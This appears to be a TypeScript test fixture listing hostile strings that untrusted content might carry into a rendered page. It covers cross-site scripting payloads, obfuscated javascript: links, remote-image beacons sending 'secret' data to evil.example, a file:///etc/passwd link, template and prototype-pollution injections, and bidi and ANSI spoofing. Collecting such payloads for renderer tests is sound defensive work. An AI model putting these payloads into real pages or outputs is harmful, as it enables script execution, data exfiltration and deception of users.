// Hostile texts that an untrusted source may put into a run. Each tries to break a page that renders it
// carelessly.

const ELSEWHERE = "https://evil.example";
const SVG =
  "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=";

export const PAYLOADS: Readonly<Record<string, string>> = {
  script: "<script>alert(1)</script>",
  "script from elsewhere": `<script src="${ELSEWHERE}/x.js"></script>`,
  "script that ends another": `</script><script>alert(1)</script>`,
  "image with a handler": `<img src=x onerror="alert(1)">`,
  "remote image, html": `<img src="${ELSEWHERE}/pixel.png?data=secret">`,
  "remote image, markdown": `![chart](${ELSEWHERE}/pixel.png?data=secret)`,
  "remote image by reference": `![chart][p]\n\n[p]: ${ELSEWHERE}/pixel.png`,
  "image over http": `![chart](http://evil.example/pixel.png)`,
  "image without a scheme": `![chart](//evil.example/pixel.png)`,
  "svg with a handler": `<svg onload="alert(1)"><circle r="9"/></svg>`,
  "svg that animates a link": `<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>`,
  "svg as data": `![chart](${SVG})`,
  "html as data": `[open](data:text/html,<script>alert(1)</script>)`,
  "javascript link": "[open](javascript:alert(1))",
  "javascript link, capitals and blanks": "[open](  JaVaScRiPt:alert(1))",
  "javascript link, entities": "[open](&#106;&#97;vascript:alert(1))",
  "javascript link, a tab inside": "[open](java\tscript:alert(1))",
  "javascript autolink": "<javascript:alert(1)>",
  "vbscript link": "[open](vbscript:msgbox(1))",
  "file link": "[open](file:///etc/passwd)",
  "link that lies": `[https://bank.example](${ELSEWHERE}/login)`,
  "link with a title that breaks out": `[open](${ELSEWHERE} "x" onmouseover="alert(1)")`,
  iframe: `<iframe src="${ELSEWHERE}"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  "object and embed": `<object data="${ELSEWHERE}"></object><embed src="${ELSEWHERE}">`,
  "style sheet": `<style>@import url(${ELSEWHERE}/x.css); body { display: none }</style>`,
  "style attribute": `<div style="position:fixed;inset:0;background:url(${ELSEWHERE}/x.png)">over all</div>`,
  "css expression": "width: expression(alert(1)); -moz-binding: url(//evil.example/x.xml)",
  "base and refresh": `<base href="${ELSEWHERE}/"><meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  "form that sends": `<form action="${ELSEWHERE}"><input name="key" autofocus onfocus="alert(1)"><button>Go</button></form>`,
  "details with a handler": `<details open ontoggle="alert(1)"><summary>more</summary></details>`,
  "names of the page": `<a id="root" name="main"></a><form id="feedback"></form>`,
  "template markers":
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %> #{7*7} __REFLECT_NONCE__",
  "quotes and attributes": `"'><img src=x onerror=alert(1)> \` onmouseover=alert(1) x="`,
  "nested quotes": `${"> ".repeat(5_000)}deep`,
  "nested lists and brackets": `${"- ".repeat(2_000)}${"[".repeat(5_000)}${"*".repeat(5_000)}`,
  bidi: "Refund \u202e00.94\u202c to \u2066admin\u2069 \u200bpass\u200bword \ufeff\u2028",
  "ansi escapes": "\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u001b[2J",
  "a huge word": "W".repeat(60_000),
  "marks upon marks": `Z${"\u0351\u0300\u0489".repeat(400)}algo`,
  "a table that is none": `${"|".repeat(3_000)}\n${"|-".repeat(3_000)}|\n${"|x".repeat(3_000)}`,
  "prototype names": `{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}`,
  "memory block": `<memory id="../../x" onload="alert(1)"><script>alert(1)</script></memory>`,
};
